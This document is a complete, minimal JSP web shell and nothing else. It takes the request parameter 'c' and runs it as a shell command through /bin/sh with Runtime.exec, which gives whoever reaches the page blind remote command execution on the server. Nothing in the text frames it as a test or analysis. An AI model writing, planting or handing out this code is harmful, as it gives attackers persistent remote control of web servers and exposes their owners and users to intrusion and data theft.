<%
String c = pageContext.getRequest().getParameter("c");
String[] argv = { "/bin/sh", "-c", c };
Process p = Runtime.getRuntime().exec(argv);
%>
